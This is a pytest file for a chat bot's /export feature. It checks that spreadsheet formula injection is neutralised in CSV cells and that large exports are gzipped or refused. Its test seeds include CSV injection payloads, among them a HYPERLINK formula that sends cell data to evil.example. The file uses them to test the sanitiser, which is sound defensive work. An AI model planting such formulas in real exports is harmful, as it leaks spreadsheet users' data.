"""/export end to end: formula injection neutralised in
every text column, the delivered column, and large exports built off the event loop and
gzipped over the upload limit."""

from __future__ import annotations

import csv
import gzip
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import insert

from bot.rules.export import neutralise
from bot.storage.schema import GenerationRow
from tests.botapi import FakeUser, SentMessage
from tests.conftest import TINY_TEXT
from tests.harness import ADMIN_ID, Harness, running_bot


def csv_rows(doc: SentMessage) -> list[dict[str, str]]:
    assert doc.kind == "document" and doc.document is not None
    data = doc.document
    if (doc.filename or "").endswith(".gz"):
        data = gzip.decompress(data)
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "cell,expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1", "'＝1"),
        ("البحر =1", "البحر =1"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


async def test_formula_cells_are_neutralised_in_every_text_column(
    harness: Harness, admin: FakeUser
) -> None:
    user = harness.api.user(8001)
    seeds = [
        '=HYPERLINK("http://evil.example/?x="&A1,"x") البحر',
        "+1 البحر",
        "-1 البحر",
        "@SUM(A1) البحر",
        "＝1 البحر",
        "=البحر",
    ]
    for seed in seeds:
        await harness.ask(user, f"/write {seed}", count=2)  # the text and the dropped note
    [doc] = await harness.ask(admin, "/export")
    rows = csv_rows(doc)
    assert [r["seed"] for r in rows] == ["'" + s for s in seeds]
    for row in rows:
        for column in ("seed", "output", "dropped_chars"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
        assert row["delivered"] == "1"
    assert rows[-1]["dropped_chars"] == "'="


async def bulk_generations(h: Harness, count: int) -> None:
    await h.services.storage.upsert_user(8100, "Bulk", None, None, "en")
    now = datetime.now(UTC)
    values = [
        {
            "user_id": 8100, "chat_id": 8100, "seed": f"البحر {i}", "temperature": 0.8,
            "length": 300, "output": f"البحر {i} " + "في الصباح يذهب الولد " * 15,
            "dropped_chars": None, "model_version_id": None, "latency_ms": 12.5,
            "created_at": now, "delivered": i % 7 != 0,
        }
        for i in range(count)
    ]  # fmt: skip
    async with h.services.storage.session_maker() as session, session.begin():
        await session.execute(insert(GenerationRow), values)


async def test_an_export_over_the_upload_limit_is_gzipped_and_says_so(
    tmp_path: Path, tiny_checkpoint_path: Path
) -> None:
    async with running_bot(
        tmp_path, tiny_checkpoint_path, TINY_TEXT, export_max_bytes=200_000
    ) as h:
        admin = h.api.user(ADMIN_ID, "Admin")
        await bulk_generations(h, 3000)  # about 1 MB of CSV
        [doc] = await h.ask(admin, "/export")
        assert (doc.filename or "").endswith(".csv.gz")
        assert "3,000 generations" in (doc.caption or "") and "gzip" in (doc.caption or "")
        assert doc.document is not None and len(doc.document) <= 200_000
        rows = csv_rows(doc)
        assert len(rows) == 3000
        assert [int(r["id"]) for r in rows] == sorted(int(r["id"]) for r in rows)
        assert sum(r["delivered"] == "0" for r in rows) == len(range(0, 3000, 7))

        [small] = await h.ask(admin, "/export user 1")  # no such user: a plain, empty CSV
        assert (small.filename or "").endswith(".csv") and csv_rows(small) == []


async def test_an_export_too_large_even_compressed_is_refused_with_a_hint(
    tmp_path: Path, tiny_checkpoint_path: Path
) -> None:
    async with running_bot(tmp_path, tiny_checkpoint_path, TINY_TEXT, export_max_bytes=1_000) as h:
        admin = h.api.user(ADMIN_ID, "Admin")
        await bulk_generations(h, 2000)
        [reply] = await h.ask(admin, "/export")
        assert reply.kind == "text" and "too large" in (reply.text or "")
        assert "/export user" in (reply.text or "")
